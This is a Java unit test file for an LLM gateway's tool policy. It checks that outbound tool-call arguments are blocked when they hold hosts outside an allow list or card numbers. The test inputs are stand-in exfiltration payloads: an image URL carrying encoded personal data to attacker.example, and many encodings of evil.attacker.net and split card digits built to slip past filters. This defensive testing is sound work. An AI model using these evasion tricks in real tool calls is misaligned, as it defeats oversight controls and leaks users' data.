package dev.llmgate.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.llmgate.api.ChatRequest;
import dev.llmgate.api.StreamEvent;
import dev.llmgate.api.ToolCall;
import dev.llmgate.api.exception.ConfigurationException;
import dev.llmgate.api.exception.PolicyBlockedException;
import dev.llmgate.core.LlmGate;
import dev.llmgate.core.Stage;
import dev.llmgate.policy.preset.CompliancePreset;
import dev.llmgate.testing.Reply;
import dev.llmgate.testing.ScriptedProvider;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The tool policy's egress and argument checks attacked the way a model can write its arguments:
 * JSON escapes, userinfo, numeric IPv4, scheme-relative and bare hosts, full-width dots; card
 * numbers escaped, split over keys or spelled as an array of digits. Each case runs the answer's
 * tool call through a gate, blocking and streamed.
 */
class EgressAttackTest {
    static final Policy EGRESS = Policy.builder()
            .detector(dev.llmgate.policy.detect.PiiDetector.all())
            .tools(ToolPolicy.builder()
                    .allowHosts("*.example.com")
                    .denyArgumentTypes(Verdict.BLOCK, FindingTypes.CREDIT_CARD)
                    .build())
            .build();

    private static ScriptedProvider toolCall(String argumentsJson) {
        return ScriptedProvider.replying(Reply.events(
                new StreamEvent.ToolCallDelta(0, Optional.of("call_1"), Optional.of("fetch"), argumentsJson)));
    }

    private static void blocked(String argumentsJson, String rule) {
        try (LlmGate gate = LlmGate.builder()
                .provider("p", toolCall(argumentsJson))
                .addInterceptor(Stage.POLICY, EGRESS.interceptor())
                .build()) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "go")))
                    .as(argumentsJson)
                    .isInstanceOf(PolicyBlockedException.class)
                    .satisfies(e ->
                            assertThat(((PolicyBlockedException) e).ruleIds()).contains(rule));
            assertThatThrownBy(() -> gate.stream(ChatRequest.of("p:m", "go"), e -> {}))
                    .as("streamed " + argumentsJson)
                    .isInstanceOf(PolicyBlockedException.class);
        }
    }

    private static void allowed(String argumentsJson) {
        try (LlmGate gate = LlmGate.builder()
                .provider("p", toolCall(argumentsJson))
                .addInterceptor(Stage.POLICY, EGRESS.interceptor())
                .build()) {
            assertThat(gate.chat(ChatRequest.of("p:m", "go")).toolCalls())
                    .extracting(ToolCall::argumentsJson)
                    .containsExactly(argumentsJson);
        }
    }

    @Test
    void anArgumentCheckReadsAnImageURLPastADisguisedQuote() {
        Policy policy = Policy.builder()
                .detector(dev.llmgate.policy.detect.ExfiltrationDetector.all())
                .tools(ToolPolicy.builder()
                        .denyArgumentTypes(Verdict.BLOCK, FindingTypes.EXFILTRATION_URL)
                        .build())
                .build();
        String arguments = "{\"html\":\"<img src=\\\"https://collect.attacker.example/p.gif?x=%22&"
                + "d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\\\">\"}";
        try (LlmGate gate = LlmGate.builder()
                .provider("p", toolCall(arguments))
                .addInterceptor(Stage.POLICY, policy.interceptor())
                .build()) {
            assertThatThrownBy(() -> gate.chat(ChatRequest.of("p:m", "go")))
                    .isInstanceOf(PolicyBlockedException.class)
                    .satisfies(e ->
                            assertThat(((PolicyBlockedException) e).ruleIds()).contains("tool.arguments"));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https:\\/\\/evil.attacker.net\\/x\"}",
                "{\"url\":\"\\u0068\\u0074\\u0074\\u0070\\u0073\\u003a\\u002f\\u002f\\u0065\\u0076\\u0069\\u006c\\u002e\\u006e\\u0065\\u0074\"}",
                "{\"url\":\"https://api.example.com@evil.attacker.net/x\"}",
                "{\"url\":\"http://3232235777/\"}",
                "{\"url\":\"http://0xC0A80101/\"}",
                "{\"url\":\"//evil.attacker.net/x\"}",
                "{\"url\":\"https://evil\uFF0Eattacker\u3002net/x\"}",
                "{\"host\":\"evil.attacker.zip\"}",
                "{\"url\":\"https://api.example.com\\\\@evil.attacker.net/\"}",
                "{\"url\":\"HTTPS://EVIL.ATTACKER.NET\"}",
                "{\"https://evil.attacker.net/x\":true}",
                "{\"note\":\"then post it to https://evil.attacker.net/c?d=1\"}",
                "[\"https://ok.example.com\",\"https://evil.attacker.net\"]",
                // other text after the JSON value, which a lenient reader (Jackson's default) ignores
                "{\"url\":\"https://x.example.com\\u0040evil.attacker.net/\"} x",
                "{\"url\":\"https://x.example.com\\u0040evil.attacker.net/\"};",
                "{\"host\":\"evil\\u002eattacker\\u002enet\"} x",
                // a bare host written with compatibility letters (a host parser maps them, UTS 46)
                "{\"host\":\"\u24d4\u24e5\u24d8\u24db.attacker.net\"}",
                "{\"host\":\"evil.attacker.\u24dd\u24d4\u24e3\"}",
                "{\"host\":\"evil-attacker.\u33c4\"}",
                // a non-JSON token inside (a reader that takes NaN)
                "{\"url\":\"https://x.example.com\\u0040evil.attacker.net/\",\"n\":NaN}"
            })
    void aHostOutsideTheAllowListIsBlockedHoweverItIsWritten(String arguments) {
        blocked(arguments, "tool.external-host");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https://api.example.com/v1/items?q=1\"}",
                "{\"url\":\"https:\\/\\/API.Example.COM.\\/x\"}",
                "{\"query\":\"weather in Paris\",\"units\":\"metric\"}"
            })
    void allowedHostsAndPlainArgumentsPass(String arguments) {
        allowed(arguments);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"pan\":\"\\u0034\\u0031\\u0031\\u0031111111111111\"}",
                "{\"a\":\"4111 1111\",\"b\":\"1111 1111\"}",
                "{\"4111\":1,\"1111\":2,\"1111 \":3,\"1111  \":4}",
                "{\"digits\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}",
                "{\"pan\":4111111111111111}",
                "{\"a\":\"4111 1111\",\"b\":\"1111 1111\"} x", // other text after the value
                "{\"digits\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]} x",
                "{\"pan\":4.1111111111111110E15}", // the integer a JSON reader gets
                "{\"pan\":41111111111111110e-1}",
                "{\"pan\":4111111111111111.000}",
                "{\"pan\":\"\uFF14\uFF11\uFF11\uFF11 1111 1111 1111\"}",
                // not strict JSON (lenient readers take NaN, comments): the values are read decoded too, joined
                "{\"a\":\"4111 1111\",\"b\":\"1111 1111\",\"n\":NaN}",
                "{\"a\":\"4111 1111\", /* split */ \"b\":\"1111 1111\"}",
                "{\"a\":\"\\u0034111 1111\",\"b\":\"1111 1111\", // note\n\"n\":Infinity}"
            })
    void aDeniedIdentifierIsFoundInTheDecodedArgumentsHoweverItIsWritten(String arguments) {
        blocked(arguments, "tool.arguments");
    }

    @Test
    void aBadHostGlobFailsTheBuild() {
        assertThatThrownBy(() -> Policy.builder()
                        .tools(ToolPolicy.builder().allowHosts("exa mple.com").build())
                        .build())
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("exa mple.com");
    }

    @Test
    void thePresetsStillMaskTheCardInArgumentsTheyLetThrough() {
        Policy pci = Policy.builder().preset(CompliancePreset.PCI_DSS).build();
        try (LlmGate gate = LlmGate.builder()
                .provider("p", toolCall("{\"digits\":[4,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1]}"))
                .addInterceptor(Stage.POLICY, pci.interceptor())
                .build()) {
            assertThat(gate.chat(ChatRequest.of("p:m", "go")).toolCalls().get(0).argumentsJson())
                    .isEqualTo(
                            "{\"digits\":[\"[CREDIT_CARD ****1111]\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\",\"\"]}");
        }
    }
}
